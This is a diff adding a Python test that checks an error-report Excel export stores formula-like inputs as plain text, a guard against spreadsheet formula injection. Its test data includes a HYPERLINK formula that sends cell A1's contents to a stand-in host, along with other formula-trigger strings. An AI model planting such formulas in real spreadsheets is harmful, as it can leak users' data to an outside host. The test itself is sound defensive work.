@@ -83,6 +83,22 @@ def test_error_workbook_keeps_row_numbers_and_marks_cells():
     assert ws["B5"].number_format == "dd/mm/yyyy" and ws["C5"].value is None
 
 
+def test_error_workbook_writes_formula_like_text_as_text():
+    link = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm")'
+    rows = [
+        (1, ["Họ và tên", "Quê quán", "Ghi chú"]),
+        (2, ["An", link, "+84 912"]),
+        (3, ["Bình", "@SUM(A1)", "-1+2"]),
+    ]
+    errors = [{"row": 2, "column": "hometown", "code": "required", "message": "Sai."}]
+    columns = {0: "full_name", 1: "hometown", 2: "note"}
+    data = build_error_workbook("DS", rows, 1, columns, errors)
+    ws = openpyxl.load_workbook(data).active
+    for ref, value in (("B2", link), ("C2", "+84 912"), ("B3", "@SUM(A1)"), ("C3", "-1+2")):
+        assert (ws[ref].value, ws[ref].data_type) == (value, "s"), ref
+    assert ws["B2"].comment.text.startswith("Sai.")  # the marked cell, still text
+
+
 def test_template_lists_every_canonical_header():
     book = openpyxl.load_workbook(io.BytesIO(build_template().getvalue()))
     headers = [c.value for c in book["Danh sách"][1]]
